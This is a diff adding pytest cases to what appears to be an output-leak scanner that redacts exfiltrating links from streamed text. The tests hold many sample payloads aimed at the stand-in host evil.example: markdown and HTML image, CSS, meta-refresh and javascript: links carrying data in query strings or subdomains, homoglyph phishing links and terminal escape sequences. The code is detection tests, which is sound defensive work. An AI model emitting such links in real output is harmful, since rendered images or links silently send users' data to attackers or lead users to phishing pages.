@@ -8,7 +8,7 @@ from random import Random
 import pytest
 
 from ostiary.errors import FaultyInputError
-from ostiary.inspection.response import Document, Leaks
+from ostiary.inspection.response import Document, Leaks, LeakSettings
 from ostiary.inspection.response.canaries import canary_for
 from ostiary.testing import leaks as drawn
 
@@ -121,3 +121,76 @@ def test_invisible_characters_and_other_digits_do_not_hide_a_number():
     ):
         scan = LEAKS.scan()
         assert scan.feed(f"card {text}.") + scan.close() == "card [REDACTED:pii.card]."
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://evil.example/p.png?d=the+customer+list)",
+        "![x](//evil.example/p.png?whatever)",
+        "![x](\\\\evil.example\\p.png?q=a+b)",
+        "![x](https:evil.example/p?q=a+b)",
+        "![x](&#104;ttps://evil.example/?q=a+b)",
+        "![x](<https://evil.example/?q=a b>)",
+        "![x]( \n https://evil.example/?q=a+b)",
+        "![x][r]\n\n[r]: https://evil.example/?q=the+customer+list",
+        "![x](https://evil.example/tell%20them%20that/ada%40corp.example)",
+        "![x](https://nfwgk43uebzxkzlsoqqho2ltmuqg65lu.evil.example/i.png)",
+        "<img src='ht\ntps://evil.example/?q=a b'>",
+        '<img alt="a>b" src=https://evil.example/?q=a+b>',
+        '<link rel=stylesheet href="https://evil.example/x?q=a+b">',
+        '<meta http-equiv=refresh content="0;url=https://evil.example/?q=a+b">',
+        "<div style=\"background:url('https://evil.example/?q=a+b')\">",
+        "see https://evil.example/?data=c2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI now",
+        "<https://evil.example/c2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI>",
+        "[safe](javascript:fetch('//evil.example'))",
+        "[safe](java&#115;cript:alert)",
+        '<a href="data:text/html,<script>alert()</script>">x</a>',
+        "[bank](https://bank.example@evil.test/login)",
+        "[bank](https://b\u0430nk.example/login)",
+        "[bank](https://xn--80ak6aa92e.com/)",
+    ],
+)
+def test_an_address_that_carries_something_away_does_not_leave(text):
+    scan = LEAKS.scan()
+    released = scan.feed(f"Look: {text} there") + scan.close()
+    assert scan.verdict == "redact", released
+    assert not any(part in released for part in ("evil.", "javascript:", "data:", "xn--", "nk.example"))
+    for at in range(len(text)):
+        again = LEAKS.scan()
+        assert again.feed(f"Look: {text[:at]}") + again.feed(f"{text[at:]} there") + again.close() == released
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[docs](https://docs.python.org/3/library/re.html?highlight=match#re.match)",
+        "[search](https://www.example.org/search?q=how+to+bake+bread)",
+        "![badge](https://img.shields.io/badge/build-passing-green?style=flat-square&logo=github)",
+        "<img src='https://images.example.org/photo.jpg?w=600&h=400'>",
+        "![a](images/plan.png) and [b](#top) and [c](mailto:me@corp.example)",
+        "https://m\u00fcnchen.example/rathaus and https://\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444/",
+        "a[i](x) = b[j] and array[0](1)",
+        "the data: one; javascript: two",
+    ],
+)
+def test_an_address_that_only_leads_somewhere_leaves(text):
+    scan = LEAKS.scan()
+    assert scan.feed(text) + scan.close() == text
+
+
+def test_with_a_list_of_hosts_images_of_others_do_not_leave():
+    leaks = Leaks(LeakSettings(egress_hosts=("corp.example",)))
+    scan = leaks.scan()
+    text = (
+        "![a](https://img.corp.example/x?d=a+b) ![b](https://other.example/x.png) ![c](https://notcorp.example/x.png)"
+    )
+    assert scan.feed(text) + scan.close() == (
+        "![a](https://img.corp.example/x?d=a+b) ![b]([REDACTED:link.image]) ![c]([REDACTED:link.image])"
+    )
+
+
+def test_a_terminal_is_told_nothing():
+    scan = LEAKS.scan()
+    text = "a\x1b[31mb\x1b]8;;https://evil.example\x07c\x1b]0;title\x1b\\d\x9b2Je\x1b"
+    assert scan.feed(text) + scan.close() == "abcde"
